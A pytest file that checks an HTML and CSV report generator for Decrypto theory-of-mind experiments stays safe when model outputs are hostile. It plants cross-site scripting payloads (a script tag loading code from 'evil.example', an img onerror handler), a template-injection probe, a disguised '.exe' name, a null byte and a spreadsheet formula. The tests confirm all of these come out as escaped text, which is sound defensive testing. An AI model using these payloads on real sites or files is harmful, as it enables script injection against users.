import base64
import csv
import hashlib
import math
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from otherminds.games.decrypto.rules import CODES, Role, code_text
from otherminds.games.decrypto.vocabulary import make
from otherminds.tom.experiments import journal
from otherminds.tom.experiments.compare import (
    UNIFORM,
    Alternatives,
    Row,
    Shadow,
    compare,
    heard_lexicon,
    lapsed,
    nearness,
    outcomes,
)
from otherminds.tom.experiments.page import described, number, visible
from otherminds.tom.experiments.records import read_games
from otherminds.tom.experiments.report import write_report
from otherminds.tom.experiments.verdicts import mean_and_error

WORDS = [f"noun{a}{b}" for a in "abcde" for b in "vwxyz"]
TURNS, LAPSE, SETTINGS = 4, 0.1, Alternatives(near=3, far=3, pool=20)
MINDS = {
    Role.ENCODER: ("baseline:k=4",),
    Role.DECODER: ("baseline", "literal"),
    Role.INTERCEPTOR: ("bayesian:rule=softmax",),
}
MODEL = "mock/<b onclick=alert(1)>&amp;'\""
ATTACK = "<script src='http://evil.example/x.js'>alert(1)</script>"
HINTS = (ATTACK, "<img src=x onerror=alert(2)>", "\u202egnp.exe")
ANSWERS = (
    journal.Attempt(text=f'</pre></details>{ATTACK}{{{{ 7 * 7 }}}} \x00"', error=f"not JSON: {ATTACK}"),
    journal.Attempt(text="{'hints': []}", error="no hints", reasoning=f"I thought {ATTACK}"),
)


def write_log(path, vocabulary, *, seeds, tables, hostile=(), unfinished=(), begun=True):
    """Games with random codes, hints and guesses; those at a place in `hostile` have a model at each seat."""
    random = np.random.default_rng(3)
    with journal.Writer(path) as writer:
        if begun:
            config = {"seeds": list(seeds), "note": ATTACK, "generation": {"temperature": 0.5, "top_p": None}}
            versions = {"otherminds": "1.2.3", "jax": ATTACK}
            writer.write(
                journal.RunBegun(
                    game="decrypto", config=config, vocabulary=vocabulary.name, versions=versions, time="now"
                )
            )
        for place, (agents, seed) in enumerate((agents, seed) for agents in tables for seed in seeds):
            game_id = f"{' + '.join(agents)} / seed {seed} / episode 0"
            codes = [code_text(code) for code in random.permutation(len(CODES))[:TURNS]]
            seated = dict(zip(("encoder", "decoder", "interceptor"), agents, strict=True))
            keywords = [vocabulary.keywords[k] for k in random.permutation(8)[:4]]
            writer.write(
                journal.GameBegun(game_id=game_id, agents=seated, seed=seed, episode=0, keywords=keywords, codes=codes)
            )
            for turn in range(TURNS - place % 2):
                hints = [WORDS[w] for w in random.choice(len(WORDS), 3, replace=False)]
                wrong = code_text(random.integers(len(CODES)))
                actions = {"encoder": hints, "decoder": codes[turn] if turn % 3 else wrong, "interceptor": codes[0]}
                attempts = []
                if place in hostile:
                    attempts = list(ANSWERS)
                    if turn == 0:
                        actions["encoder"] = list(HINTS)
                    elif turn == 1:
                        actions["encoder"] = None
                    elif turn == 2:
                        actions |= {"decoder": None, "interceptor": None}
                for role, action in actions.items():
                    unknown = [hint for hint in action or () if hint in HINTS] if role == "encoder" else []
                    observation = {"keywords": keywords} if role != "interceptor" else {}
                    writer.write(
                        journal.Decision(
                            game_id=game_id, turn=turn, role=role, agent=seated[role], observation=observation,
                            action=action, unknown_words=unknown, attempts=attempts,
                        )
                    )  # fmt: skip
            if place not in unfinished:
                writer.write(
                    journal.GameOver(game_id=game_id, ending="survived", turns=TURNS, miscommunications=1,
                                     interceptions=1, failed_answers=0)
                )  # fmt: skip


class Page(HTMLParser):
    """The tags, attributes and text of a page."""

    def __init__(self, source):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(source)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.text += "\f" if tag == "h2" else "" if tag in ("b", "wbr", "span") else " "
        self.attributes += [(tag, name, value or "") for name, value in attributes]

    def handle_data(self, data):
        self.text += data

    def section(self, name):
        """The text of the section with this title, with single spaces."""
        (text,) = [part for part in self.text.split("\f") if part.startswith(f"{name}\n")]
        return " ".join(text.removeprefix(name).split())


@pytest.fixture(scope="module")
def vocabulary():
    return make(WORDS, np.random.default_rng(1).normal(size=(len(WORDS), 6)), WORDS[:8], "tiny")


def reported(folder, vocabulary, shadowed=True, **log):
    """The report of a log. shadowed: by real minds, else by one to whom everything is e^-2 probable."""
    path = folder / "log.jsonl"
    write_log(path, vocabulary, **log)
    games = read_games([path], vocabulary)
    if shadowed:
        rows, shadows = compare(games, vocabulary, MINDS, lapse=LAPSE, settings=SETTINGS)
    else:
        flat = np.full(games.arrays.codes.shape, -2.0)
        shadow = Shadow(flat, flat, np.full(flat.shape, 24))
        shadows = {(role, mind): shadow for role in Role for mind in ("literal", UNIFORM)}
        rows = [
            Row(role.name.lower(), agents[role], mind, TURNS, 0, 0, -2.0, 0.0, 0, True)
            for role, mind in shadows
            for agents in set(games.agents)
        ]
    tables, near = outcomes(games), nearness(games, heard_lexicon(vocabulary, games))
    common = {"logs": [path], "lapse": LAPSE, "settings": SETTINGS}
    files = write_report(folder / "out", games, vocabulary, rows, shadows, tables, near, **common)
    return games, rows, files, (folder / "out" / "report.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def report(vocabulary, tmp_path_factory):
    """Two seeds of a table of minds, and of one with a hostile model at every seat."""
    tables = [("baseline", "literal", "bayesian"), (MODEL, MODEL, MODEL)]
    return reported(tmp_path_factory.mktemp("report"), vocabulary, seeds=(0, 1), tables=tables, hostile=(2, 3))


@pytest.fixture(scope="module")
def page(report):
    return Page(report[3])


def test_every_file_is_there(report):
    _, _, files, _ = report
    assert [Path(file).name for file in files] == [
        "report.html", "transcripts.html", "outcomes.png", "minds.png", "nearness.png", "belief.png", "cube.csv",
        "decisions.csv", "scores.csv",
    ]  # fmt: skip
    assert all(file.stat().st_size > 200 for file in files)


def test_the_page_is_safe_and_needs_nothing_beside_it(report, page):
    *_, source = report
    assert not set(page.tags) & {"script", "iframe", "object", "embed", "link", "form", "base", "svg", "b onclick"}
    for tag, name, value in page.attributes:
        assert not name.startswith("on") and name not in ("style", "srcset", "ping", "action"), (tag, name, value)
        if name in ("src", "href"):
            assert value.startswith({"img": "data:image/png;base64,", "a": ("#", "transcripts.html")}[tag])
        assert "evil" not in value or tag == "a"
    assert page.tags.count("img") == 4
    assert "onclick" in page.text and "<script src='http://evil.example/x.js'>" in page.text  # shown as text
    assert "{{ 7 * 7 }}" in page.text
    assert "@import" not in source and "url(" not in source
    assert not re.search(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//""", re.sub(r"&lt;.*?&gt;", "", source))
    ids = [value for _, name, value in page.attributes if name == "id"]
    links = {value for _, name, value in page.attributes if name == "href"}
    assert links == {f"#{name}" for name in ids} | {"transcripts.html"}


def test_every_game_is_on_its_own_page_as_safely(report):
    games, _, files, _ = report
    source = files[1].read_text(encoding="utf-8")
    page = Page(source)
    assert set(page.tags) <= {
        "html", "head", "meta", "title", "style", "body", "header", "h1", "p", "details", "summary", "b", "span", "br",
        "div", "table", "thead", "tbody", "tr", "th", "td", "pre", "dl", "dt", "dd",
    }  # fmt: skip
    assert not {name for _, name, _ in page.attributes} & {"src", "href", "onclick", "style"}
    assert "\x00" not in source and "\u202e" not in source
    text = " ".join(page.text.split())
    assert text.count("Keywords:") == len(games.ids) == 4
    assert "4 games, every answer as it came" in text
    assert ATTACK in text and "attempt 2, not valid: no hints" in text
    decided = 3 * sum(turns for agents, turns in zip(games.agents, games.arrays.turns, strict=True) if MODEL in agents)
    assert text.count("its reasoning, as far as the server shows it") == decided and f"I thought {ATTACK}" in text
    assert "encoder: no answer" in text and "decoder: no answer; interceptor: no answer" in text


def test_error_tags_stand_in_the_table_and_in_the_csv(report, page):
    _, _, files, _ = report
    tags = page.section("Error tags")
    assert "repeated hint" in tags and "used code it guesses a code that was shown" in tags
    with files[-2].open(newline="", encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    found = [line["error_tags"] for line in lines if line["role"] == "interceptor" and line["agent"] == "bayesian"]
    assert found[:2] == ["", "used code; same guess again"]  # it guesses the first code for ever
    failed = [line for line in lines if line["failed"] == "yes" and line["status"] == "failed"]
    assert failed and all("no answer" in line["error_tags"] for line in failed)


def test_the_policy_allows_the_pages_own_style_and_pictures_alone(report, page):
    *_, source = report
    style = re.search(r"<style>(.*?)</style>", source, re.S).group(1)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    (policy,) = [value for tag, name, value in page.attributes if tag == "meta" and value.startswith("default-src")]
    assert policy == (
        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert source.index("Content-Security-Policy") < source.index("<style>")
    assert "prefers-color-scheme: dark" in style


def test_the_figures_on_the_page_are_the_files(report, page):
    _, _, files, _ = report
    shown = {value.partition(",")[2] for tag, name, value in page.attributes if (tag, name) == ("img", "src")}
    assert shown == {base64.b64encode(f.read_bytes()).decode() for f in files if f.suffix == ".png"}
    assert all(value for tag, name, value in page.attributes if (tag, name) == ("img", "alt"))


def test_control_characters_are_written_out(report, page):
    *_, source = report
    assert "\x00" not in source and "\u202e" not in source
    assert "\\u202egnp.exe" in page.text and "\\u0000" in page.text
    assert visible("a\tb\n\x1b[0m é 石 \u200b \ud83d") == "a\tb\n\\u001b[0m é 石 \\u200b \\ud83d"


def test_what_was_played(vocabulary, page):
    played = page.section("What was played")
    for text in (
        "games 4", "seeds 0, 1", f"lapse of every mind {LAPSE}",
        "alternatives the 3 nearest and 3 of the 20 nearest nouns, seed 0",
        vocabulary.name, "generation.temperature 0.5", "otherminds 1.2.3", "Run of now",
    ):  # fmt: skip
        assert text in played
    assert "top_p" not in played and "not the words of this comparison" not in played


def test_failed_answers_are_visible(page):
    games = page.section("Games")
    assert games.count("no answer") >= 3
    assert games.count("failed: none of 2 answers was valid") == 3
    assert games.count("attempt 1, not valid: not JSON: <script") == 4 * 3
    assert "{'hints': []}" in games and "attempt 2, not valid: no hints" in games


def test_a_transcript_for_every_table(report, page):
    games, *_ = report
    text = page.section("Games")
    assert text.count("Ended after") == 2
    first = games.ids.index("baseline + literal + bayesian / seed 0 / episode 0")
    for turn in range(TURNS):
        code = code_text(int(games.arrays.codes[first, turn]))
        hints = [games.words.texts[row] for row in games.arrays.hints[first, turn]]
        assert f"{turn + 1} {code} " + " ".join(f"{d} {h}" for d, h in zip(code.split("-"), hints, strict=True)) in text


def test_verdicts_name_the_best_mind_or_say_that_none_is(report, page):
    _, rows, _, _ = report
    short = page.section("In short")
    for role in ("encoder", "decoder", "interceptor"):
        for agent in {row.agent for row in rows if row.role == role}:
            own = {row.mind: row for row in rows if (row.role, row.agent) == (role, agent)}
            gain = max(row.log_score for mind, row in own.items() if mind != UNIFORM) - own[UNIFORM].log_score
            if gain > 0:
                assert f"{agent} as {role} is best explained by" in short
                assert f"uniform by {number(gain)}" in short
            else:
                assert f"No mind explains {agent} as {role} better than chance at a lapse of {LAPSE}" in short
                assert f"{number(-gain)}" in short
    assert described("literal:rule=softmax", "decoder").startswith("the posterior over the unused codes")
    assert described(UNIFORM, "decoder") == ""


def test_decisions_parse_back_to_the_scores(report):
    games, rows, files, _ = report
    with files[-2].open(newline="", encoding="utf-8") as file:
        decisions = list(csv.DictReader(file))
    assert len(decisions) == 3 * games.arrays.turns.sum()
    for row in rows:
        own = [line for line in decisions if (line["role"], line["agent"]) == (row.role, row.agent)]
        counted = {status: sum(line["status"] == status for line in own) for status in ("scored", "failed")}
        assert (counted["scored"], counted["failed"]) == (row.decisions - row.failed, row.failed)
        assert sum(line["status"] == "unknown hint" for line in own) == row.unknown
        kept = [line for line in own if line["status"] in ("scored", "failed")]
        log_p = np.array([float(line[f"log_p {row.mind}"]) for line in kept])
        size = np.array([int(line["set_size"]) for line in kept])
        assert lapsed(log_p, size, LAPSE).mean() == pytest.approx(row.log_score, rel=1e-12)
        scored = np.array([line["status"] == "scored" for line in kept])
        assert np.isneginf(log_p[scored]).sum() == row.impossible
        assert all(line[f"log_p {row.mind}"] == "" for line in own if line["status"] in ("unknown hint", "no hints"))
        assert all((line["failed"] == "yes") == (line["action"] == "") for line in own)
    hostile = [line for line in decisions if line["agent"] == MODEL and line["turn"] == "1"]
    assert hostile[0]["action"] == visible(", ".join(HINTS)) == hostile[0]["unknown_words"]
    assert {line["status"] for line in hostile} == {"unknown hint"}
    silent = [line["status"] for line in decisions if line["agent"] == MODEL and line["turn"] == "2"]
    assert silent == ["failed", "no hints", "no hints"] * 2


def test_scores_parse_back_to_the_rows(report):
    _, rows, files, _ = report
    with files[-1].open(newline="", encoding="utf-8") as file:
        for line, row in zip(csv.DictReader(file), rows, strict=True):
            assert (line["role"], line["agent"], line["mind"]) == (row.role, row.agent, row.mind)
            scores = float(line["log_score"]), float(line["regret"])
            assert scores == pytest.approx((row.log_score, row.regret), rel=1e-11)
            assert [int(line[n]) for n in ("decisions", "failed", "unknown", "impossible")] == [
                row.decisions, row.failed, row.unknown, row.impossible,
            ]  # fmt: skip
            assert (line["best"] == "yes") == row.best


def test_errors_over_seeds(page):
    outcomes = page.section("Outcomes")
    assert re.search(r"bayesian 2 100% 3\.50 ± 0\.50", outcomes)


def test_the_followed_game(page):
    belief = page.section("An interceptor's belief")
    assert belief.startswith("The longest game whose interceptor has a belief about the keywords:")
    assert "baseline + literal + bayesian / seed 0 / episode 0" in belief
    assert "after turn 4" in belief and "after turn 5" not in belief


@pytest.mark.slow
def test_one_seed_no_belief_nothing_finished_and_formulas(vocabulary, tmp_path):
    formula = "=HYPERLINK(0)"
    tables = [(formula, "literal", "mock/x")]
    _, rows, files, source = reported(
        tmp_path, vocabulary, shadowed=False, seeds=(7,), tables=tables, unfinished=(0,), begun=False
    )
    page = Page(source)
    assert [file.name for file in files[1:4]] == ["minds.png", "nearness.png", "belief.png"]
    assert "No game is finished yet." in page.text and "The log stops before the end" in page.text
    assert (
        "No interceptor at these tables has a belief" in page.text and "±" not in page.section("In short").split(".")[0]
    )
    assert "(there is one game, hence none)" in " ".join(page.text.split())
    with files[-2].open(newline="", encoding="utf-8") as file:
        assert {line["agent"] for line in csv.DictReader(file)} == {"'" + formula, "literal", "mock/x"}
    assert {row.agent for row in rows} >= {formula}


def test_a_dash_where_there_is_one_seed(vocabulary, tmp_path):
    *_, source = reported(
        tmp_path, vocabulary, shadowed=False, seeds=(7,), tables=[("baseline", "literal", "bayesian")]
    )
    assert re.search("bayesian 1 100% 4[.]00 ± \N{EN DASH} ", Page(source).section("Outcomes"))


def test_mean_and_error_against_plain_python():
    values = np.array([[1.0, 2.0, np.nan], [4.0, np.nan, np.nan], [np.nan] * 3, [0.0, 1.0, 5.0]])
    games = [[1.0, 2.0], [4.0], [0.0, 1.0, 5.0]]
    mean = sum(map(sum, games)) / 6
    variance = 3 / 2 * sum(sum(x - mean for x in game) ** 2 for game in games) / 36
    assert mean_and_error(values) == pytest.approx((mean, math.sqrt(variance)))
    one = np.random.default_rng(0).normal(size=(50, 1))  # one decision a game: the usual standard error
    assert mean_and_error(one)[1] == pytest.approx(one.std(ddof=1) / math.sqrt(50))
    assert mean_and_error(values[:1]) == (1.5, pytest.approx(math.nan, nan_ok=True))
    assert all(map(math.isnan, mean_and_error(values[2:3])))


def test_numbers_in_words():
    assert number(-1.234) == "\N{MINUS SIGN}1.23" and number(math.nan) == "\N{EN DASH}"
    assert number(1234.5, 0) == "1,234" and number(-math.inf) == "\N{MINUS SIGN}\N{INFINITY}"
